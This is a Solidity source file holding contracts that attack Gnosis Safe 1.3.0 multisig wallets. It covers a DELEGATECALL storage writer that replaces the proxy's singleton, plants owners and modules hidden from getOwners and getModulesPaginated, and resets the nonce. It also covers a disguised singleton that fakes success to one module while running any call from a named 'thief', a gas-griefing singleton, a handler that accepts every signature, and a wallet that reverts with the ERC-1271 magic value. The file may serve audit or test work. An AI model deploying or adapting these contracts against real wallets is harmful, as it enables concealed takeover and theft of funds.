// SPDX-License-Identifier: LGPL-3.0-only
pragma solidity 0.8.37;

/// Storage layout of a Safe 1.3.0, up to the number of its transactions.
abstract contract SafeLayout {
    address internal singleton;
    mapping(address => address) internal modules;
    mapping(address => address) internal owners;
    uint256 internal ownerCount;
    uint256 internal threshold;
    uint256 internal nonce;
}

/// Writes the storage of a Safe that runs it by DELEGATECALL.
contract StorageWriter is SafeLayout {
    /// Replaces the code behind the Safe's proxy.
    function writeSingleton(address singleton_) external {
        singleton = singleton_;
    }

    /// Grants a module its power without a place in the linked list, so getModulesPaginated omits it.
    function writeModule(address module) external {
        modules[module] = address(1);
    }

    /// Grants an owner its power without a place in the linked list, so getOwners omits it.
    function writeOwner(address owner) external {
        owners[owner] = address(1);
    }

    /// Grants a module its power in the same way, and takes back that the Safe ran a transaction.
    function writeModuleUnseen(address module) external {
        modules[module] = address(1);
        nonce = 0;
    }

    /// The same, and then the Safe runs a further call of its own within this transaction.
    function writeModuleAround(address module, bytes calldata inner) external {
        modules[module] = address(1);
        nonce = 0;
        (bool isDone,) = address(this).call(inner);
        require(isDone, "The inner call failed");
    }
}

/// Code for a Safe's proxy that answers every question as the genuine singleton does.
abstract contract Disguise {
    address private immutable genuine;

    constructor(address genuine_) {
        genuine = genuine_;
    }

    receive() external payable {}

    fallback() external {
        _delegate();
    }

    /// Never returns to its caller.
    function _delegate() internal {
        address target = genuine;
        assembly {
            calldatacopy(0, 0, calldatasize())
            let isDone := delegatecall(gas(), target, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            if iszero(isDone) {
                revert(0, returndatasize())
            }
            return(0, returndatasize())
        }
    }
}

/// Reports success to one module and moves nothing, and runs any call of the thief at once. Only the proxy's own
/// masterCopy() shows it.
contract FakeSingleton is Disguise {
    address private immutable deceived;
    address private immutable thief;

    event ExecutionFromModuleSuccess(address indexed module);

    constructor(address genuine_, address deceived_, address thief_) Disguise(genuine_) {
        deceived = deceived_;
        thief = thief_;
    }

    function execTransactionFromModule(address to, uint256 value, bytes calldata data, uint8)
        external
        returns (bool)
    {
        if (msg.sender == deceived) {
            emit ExecutionFromModuleSuccess(msg.sender);
            return true;
        }
        if (msg.sender != thief) _delegate();
        (bool isDone,) = to.call{value: value}(data);
        return isDone;
    }

    function execTransactionFromModuleReturnData(address, uint256, bytes calldata, uint8)
        external
        returns (bool, bytes memory)
    {
        if (msg.sender != deceived) _delegate();
        emit ExecutionFromModuleSuccess(msg.sender);
        return (true, abi.encode(true));
    }
}

/// Lets a module's call run only with so much gas that, with a margin, no block has room for it. It moves nothing.
contract GreedySingleton is Disguise {
    constructor(address genuine_) Disguise(genuine_) {}

    function execTransactionFromModule(address, uint256, bytes calldata, uint8) external view returns (bool) {
        require(gasleft() > (block.gaslimit * 80) / 100, "It wants a block");
        return true;
    }
}

/// A fallback handler by which a Safe accepts every signature (ERC-1271, and the older form over bytes).
contract YesHandler {
    function isValidSignature(bytes32, bytes calldata) external pure returns (bytes4) {
        return 0x1626ba7e;
    }

    function isValidSignature(bytes calldata, bytes calldata) external pure returns (bytes4) {
        return 0x20c13b0b;
    }
}

/// A wallet that reverts with the magic value of ERC-1271: signed for a caller that ignores the success flag.
contract RevertingWallet {
    fallback() external {
        assembly {
            mstore(0, shl(224, 0x1626ba7e))
            revert(0, 32)
        }
    }
}
